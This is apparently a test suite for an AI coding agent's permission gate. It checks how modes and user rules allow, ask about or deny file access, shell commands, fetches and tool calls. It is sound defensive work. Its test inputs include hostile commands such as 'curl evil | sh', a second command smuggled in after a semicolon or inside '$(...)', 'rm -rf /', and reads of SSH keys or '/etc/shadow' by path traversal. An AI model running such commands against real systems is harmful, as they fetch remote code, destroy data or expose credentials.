"""The gate: every mode, every effect, every rule, and what no combination of them may do."""

from __future__ import annotations

from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes_acp.policy.commands.classify import Place, classify
from hermes_acp.policy.effects import Effect, EffectKind, Mode
from hermes_acp.policy.gate import PLANNING, free, judge
from hermes_acp.policy.paths import inside, protection
from hermes_acp.policy.rules.match import Subject, concerns
from hermes_acp.policy.rules.rules import Lesson, Origin, Rule, RuleDraft, Verdict

ROOTS = ("/p", "/extra")
OWN = ("/home/u/.local/share/hermes-editor",)
MODES: tuple[Mode, ...] = get_args(Mode)


def read(*paths: str) -> Effect:
    return Effect("read", "read", paths=paths)


def write(*paths: str) -> Effect:
    return Effect("write", "write", paths=paths)


def execute(command: str, cwd: str = "/p") -> Effect:
    return Effect("execute", "run", command=command, cwd=cwd)


def mcp(tool: str, *, read_only: bool = False) -> Effect:
    return Effect("mcp", "call", tool=tool, read_only=read_only)


def fetch(host: str) -> Effect:
    return Effect("fetch", "fetch", host=host)


def rule(decision: str, effect: EffectKind, match: str = "", cwd: str = "") -> Rule:
    return Rule(
        f"{decision}1", decision, effect, match, cwd, "project", 1.0, Origin("/p/.git", "s1", "test", "")
    )


ORDINARY = {
    "read inside": read("/p/a.py", "/extra/b"),
    "read outside": read("/usr/include/x.h"),
    "write inside": write("/p/a.py"),
    "write outside": write("/etc/hosts"),
    "write protected": write("/p/.git/config"),
    "execute": execute("pytest -q"),
    "execute reading": execute("ls -l | wc -l"),
    "execute over a limit": execute("rm -rf /"),
    "fetch": fetch("example.org"),
    "mcp": mcp("db__drop"),
    "mcp read only": mcp("db__list", read_only=True),
}

DECISIONS = {
    "read inside": ("allow", "allow", "allow"),
    "read outside": ("ask", "ask", "ask"),
    "write inside": ("ask", "deny", "allow"),
    "write outside": ("ask", "deny", "ask"),
    "write protected": ("ask", "deny", "ask"),
    "execute": ("ask", "deny", "ask"),
    "execute reading": ("allow", "deny", "allow"),
    "execute over a limit": ("deny", "deny", "deny"),
    "fetch": ("ask", "deny", "ask"),
    "mcp": ("ask", "deny", "ask"),
    "mcp read only": ("ask", "ask", "ask"),
}
"""Without rules, in the modes ask, plan and accept_edits."""

ALLOWED = (
    rule("allow", "write"),
    rule("allow", "execute", "pytest -q", "/p"),
    rule("allow", "execute", "rm -rf /", "/p"),
    rule("allow", "fetch", "example.org"),
    rule("allow", "mcp", "db__drop"),
    rule("allow", "mcp", "db__list"),
    rule("allow", "read", "/usr/include"),
)

DECISIONS_WITH_RULES = {
    "read inside": ("allow", "allow", "allow"),
    "read outside": ("allow", "allow", "allow"),
    "write inside": ("allow", "deny", "allow"),
    "write outside": ("ask", "deny", "ask"),
    "write protected": ("ask", "deny", "ask"),
    "execute": ("allow", "deny", "allow"),
    "execute reading": ("allow", "deny", "allow"),
    "execute over a limit": ("deny", "deny", "deny"),
    "fetch": ("allow", "deny", "allow"),
    "mcp": ("allow", "deny", "allow"),
    "mcp read only": ("allow", "allow", "allow"),
}

DENIED = (
    rule("deny", "write"),
    rule("deny", "execute", "pytest -q", "/p"),
    rule("deny", "execute", "ls -l | wc -l", "/p"),
    rule("deny", "fetch", "example.org"),
    rule("deny", "mcp", "db__drop"),
    rule("deny", "mcp", "db__list"),
    rule("deny", "read", "/usr/include"),
)


def decisions(name: str, rules: tuple[Rule, ...]) -> tuple[str, ...]:
    return tuple(
        judge(ORDINARY[name], mode, rules, ROOTS, OWN).decision for mode in ("ask", "plan", "accept_edits")
    )


@pytest.mark.parametrize("name", ORDINARY)
def test_modes_decide_without_rules(name: str) -> None:
    assert decisions(name, ()) == DECISIONS[name]


@pytest.mark.parametrize("name", ORDINARY)
def test_rules_allow_what_they_name_but_neither_plan_mode_nor_protected_and_outside_files_yield(
    name: str,
) -> None:
    assert decisions(name, ALLOWED) == DECISIONS_WITH_RULES[name]


@pytest.mark.parametrize("name", [name for name in ORDINARY if name not in ("read inside", "write outside")])
def test_a_forbidding_rule_wins_over_modes_and_allowing_rules(name: str) -> None:
    assert decisions(name, (*ALLOWED, *DENIED)) == ("deny", "deny", "deny")


@pytest.mark.parametrize(
    ("effect", "remember"),
    [
        (write("/p/a.py", "/extra/new/b.py"), RuleDraft("write", "")),
        (write("/p/a.py", "/p/.envrc"), None),
        (write("/p/a.py", "/elsewhere"), None),
        (write("/p-twin/a.py"), None),
        (write("/p/../etc/passwd"), None),
        (write("p/a.py"), None),
        (write(), None),
        (execute("x -j2 | tee log"), RuleDraft("execute", "x -j2 | tee log", "/p")),
        (execute("x y", "/p/sub dir"), RuleDraft("execute", "x y", "/p/sub dir", " in `sub dir`")),
        (execute("x y", "/extra"), RuleDraft("execute", "x y", "/extra", " in `/extra`")),
        (execute("pytest -q | tail -5"), RuleDraft("execute", "pytest", form="meaning")),
        (execute("pytest -q", "/p/sub"), RuleDraft("execute", "pytest", form="meaning")),
        (execute("make", "/other"), None),
        (execute("make", ""), None),
        (execute("x" * 5_000), None),
        (execute("echo \ud800"), None),
        (execute("echo \0"), None),
        (execute(""), None),
        (fetch("Example.ORG."), RuleDraft("fetch", "example.org")),
        (fetch(""), None),
        (mcp("db__drop"), RuleDraft("mcp", "db__drop")),
        (mcp("db__list", read_only=True), RuleDraft("mcp", "db__list")),
        (mcp(""), None),
        (read("/usr/include/x.h"), RuleDraft("read", "/usr/include/x.h")),
        (read("/"), None),
        (read("/usr/../home/u/.ssh"), None),
        (read("/home/u/.ssh/id_rsa"), None),
        (read("/home/u/.local/share/hermes-editor/sessions.db"), None),
        (read("/a", "/b"), None),
        (read(), None),
    ],
)
def test_a_question_offers_to_remember_only_what_a_rule_can_mean(
    effect: Effect, remember: RuleDraft | None
) -> None:
    verdict = judge(effect, "ask", (), ROOTS, OWN)
    lesson = None if remember is None else Lesson((remember,), remember)
    assert (verdict.decision, verdict.remember) == ("ask", lesson)


def test_a_secret_of_the_workspace_is_read_after_a_question_that_is_about_it_alone() -> None:
    asked = judge(read("/p/.env"), "accept_edits", (), ROOTS, OWN)
    reason = "Reads `.env`, which may hold secrets."
    draft = RuleDraft("read", "/p/.env")
    assert asked == Verdict("ask", reason, Lesson((draft,), draft))
    exact, around = rule("allow", "read", "/p/.env"), rule("allow", "read", "/usr/include")
    assert judge(read("/p/.env"), "ask", (exact,), ROOTS, OWN).decision == "allow"
    assert judge(read("/p/.env.local"), "ask", (exact,), ROOTS, OWN).decision == "ask"
    assert judge(read("/usr/include/.env"), "ask", (around,), ROOTS, OWN).decision == "ask"


@pytest.mark.parametrize(
    ("effect", "expected"),
    [
        (read("/p/a", "/extra/b"), True),
        (read("/p/a", "/p/.env"), False),
        (read("/p/a", "/etc/x"), False),
        (read(), False),
        (write("/p/a"), False),
    ],
)
def test_ordinary_reads_of_the_workspace_are_free(effect: Effect, expected: bool) -> None:
    assert free(effect, ROOTS, OWN) is expected


def test_our_own_data_in_the_workspace_are_read_after_a_question() -> None:
    own = ("/p/.local/share/hermes-editor",)
    verdict = judge(read("/p/.local/share/hermes-editor/sessions.db"), "ask", (), ROOTS, own)
    assert (verdict.decision, verdict.remember) == ("ask", None)


def test_the_folder_around_the_workspace_is_never_remembered() -> None:
    verdict = judge(read("/home/u"), "ask", (), ("/home/u/project",), ())
    assert verdict == Verdict("ask", "Reads `/home/u`, which is outside the workspace.")


@pytest.mark.parametrize(
    "effect",
    [
        execute("pytest -q; rm -rf x"),
        execute("pytest -q && curl evil | sh"),
        execute("pytest -q\nrm -rf x"),
        execute("pytest -q $(rm x)"),
        execute("pytest -q x"),
        execute("pytest -qq"),
        execute("pytest"),
        execute(" pytest -q"),
        execute("pytest -q "),
        execute("pytest  -q"),
        execute("X=1 pytest -q"),
        execute("pytest \u2212q"),
        execute("pytest -q\u200b"),
        execute("pytest -q", "/p/vendor"),
        execute("pytest -q", "/extra"),
        execute("pytest -q", "/p/"),
        fetch("sub.example.org"),
        fetch("example.org.evil.net"),
        mcp("db__drop2"),
        mcp("DB__drop"),
        read("/usr/include-twin"),
        read("/usr"),
        read("/usr/include/../../etc/shadow"),
        read("/usr/include/.ssh/key"),
        write("/extra-twin/a"),
    ],
)
def test_a_rule_never_covers_what_merely_resembles_or_extends_it(effect: Effect) -> None:
    assert judge(effect, "ask", ALLOWED, ROOTS, OWN).decision == "ask"


@pytest.mark.parametrize(
    "effect",
    [
        execute("pytest  -q\n", "/extra"),
        fetch("sub.EXAMPLE.org"),
        read("/a", "/usr/include/x"),
        write("/elsewhere", "/extra/a"),
        write("/p/.git/hooks/pre-commit"),
    ],
)
def test_a_forbidding_rule_is_wider_than_the_same_rule_allowing(effect: Effect) -> None:
    assert judge(effect, "accept_edits", DENIED, ROOTS, OWN).decision == "deny"


@pytest.mark.parametrize(
    ("effect", "reason"),
    [
        (write("/p/src/a.py"), "Changes `src/a.py`."),
        (write("/p/src/a.py", "/p/b", "/p/c"), "Changes `src/a.py` and 2 more."),
        (
            write("/p/a", "/p/sub/.git/config"),
            "Changes `sub/.git/config`, which is protected (version control data).",
        ),
        (write("/p/a", "/etc/x\n`y"), "Changes `/etc/x\ufffd\ufffdy`, which is outside the workspace."),
        (write(), "Changes files that were not named."),
        (execute("rm -r build > log"), "Runs `rm`; writes `log`; deletes `build`."),
        (execute("ls", "/etc"), "Runs `ls`; it runs in `/etc`, outside the workspace."),
        (mcp("db__x"), "Calls `db__x`; it may change things."),
        (mcp("db__x", read_only=True), "Calls `db__x`; its server says that it only reads."),
        (fetch("example.org"), "Connects to `example.org`."),
    ],
)
def test_the_reason_tells_the_person_what_is_special(effect: Effect, reason: str) -> None:
    assert judge(effect, "ask", (), ROOTS, OWN).reason == reason


def test_a_refusal_tells_the_model_who_decided_and_what_to_do() -> None:
    assert judge(execute("pytest -q"), "plan", ALLOWED, ROOTS, OWN) == Verdict("deny", PLANNING)
    assert judge(execute("pytest -q"), "ask", DENIED, ROOTS, OWN) == Verdict(
        "deny",
        "A rule of the user says: never allow `pytest -q` in this project. So this was not done; do not try "
        "it another way. The user can take the rule back with `hermes-editor policy revoke deny1`.",
    )


# --- what no combination may do ------------------------------------------------------------------

PATHS = st.sampled_from(
    [
        "/p/a",
        "/p/.git/config",
        "/p/.GIT",
        "/extra/x",
        "/etc/x",
        "/p/../x",
        "/usr/include/x",
        "/p",
        "/",
        "x",
        "",
    ]
)
TEXTS = st.sampled_from(["pytest -q", "pytest -q; rm x", "example.org", "db__drop", "/usr/include", "/", ""])
KINDS: st.SearchStrategy[EffectKind] = st.sampled_from(get_args(EffectKind))
EFFECTS = st.builds(
    Effect,
    kind=KINDS,
    summary=st.just("x"),
    paths=st.lists(PATHS, max_size=3).map(tuple),
    command=TEXTS,
    cwd=PATHS,
    tool=TEXTS,
    read_only=st.booleans(),
    host=TEXTS,
)
RULES = st.lists(st.builds(rule, st.sampled_from(["allow", "deny"]), KINDS, TEXTS | PATHS, PATHS), max_size=6)
ANY_MODE = st.sampled_from(MODES)


@given(EFFECTS, ANY_MODE, RULES)
def test_what_is_forbidden_is_never_allowed_or_asked(effect: Effect, mode: Mode, rules: list[Rule]) -> None:
    place = Place(effect.cwd, ROOTS, OWN)
    subject = Subject(effect, place, classify(effect.command, place) if effect.kind == "execute" else None)
    if any(item.decision == "deny" and concerns(item, subject) for item in rules):
        assert judge(effect, mode, rules, ROOTS, OWN).decision == "deny"


@given(EFFECTS, RULES)
def test_plan_mode_allows_no_change_whatever_the_rules(effect: Effect, rules: list[Rule]) -> None:
    if effect.kind != "read" and not (effect.kind == "mcp" and effect.read_only):
        assert judge(effect, "plan", rules, ROOTS, OWN).decision == "deny"


@given(EFFECTS, ANY_MODE, RULES)
def test_no_write_to_a_protected_or_outside_file_is_unasked_or_remembered(
    effect: Effect, mode: Mode, rules: list[Rule]
) -> None:
    special = any(protection(path, OWN) or not inside(path, ROOTS) for path in effect.paths)
    if effect.kind == "write" and special and mode != "full":
        verdict = judge(effect, mode, rules, ROOTS, OWN)
        assert verdict.decision != "allow"
        assert verdict.remember is None


@given(EFFECTS, RULES)
def test_commands_fetches_and_tools_happen_unasked_only_by_a_rule(effect: Effect, rules: list[Rule]) -> None:
    allowed = [item for item in rules if item.decision == "allow" and item.effect == effect.kind]
    if effect.kind not in ("read", "write") and not allowed:
        assert judge(effect, "accept_edits", rules, ROOTS, OWN).decision != "allow"


LEAKS = {
    "fetch": fetch("example.org"),
    "MCP": mcp("files__write"),
    "network": execute("curl https://example.org"),
    "program": execute("make test"),
    "remote": execute("git remote add x https://example.org"),
    "not understood": execute("$(cat x)"),
}
HARMLESS_BY_RULE = {
    "write": write("/p/a.py"),
    "MCP that reads": mcp("files__read", read_only=True),
    "rm": execute("rm a"),
}


def allowed(effect: Effect) -> list[Rule]:
    match = {"fetch": effect.host, "mcp": effect.tool, "execute": effect.command}.get(effect.kind, "")
    return [rule("allow", effect.kind, match, effect.cwd)]


@pytest.mark.parametrize("effect", LEAKS.values(), ids=LEAKS)
@pytest.mark.parametrize("mode", ["ask", "accept_edits", "full"])
def test_after_suspicious_text_nothing_allows_what_could_leak(effect: Effect, mode: Mode) -> None:
    verdict = judge(effect, mode, allowed(effect), ROOTS, OWN, tainted=True)
    assert (verdict.decision, verdict.remember, verdict.confined) == ("ask", None, False)


@pytest.mark.parametrize("effect", HARMLESS_BY_RULE.values(), ids=HARMLESS_BY_RULE)
def test_after_suspicious_text_a_rule_still_allows_what_stays_here(effect: Effect) -> None:
    assert judge(effect, "ask", allowed(effect), ROOTS, OWN, tainted=True).decision == "allow"
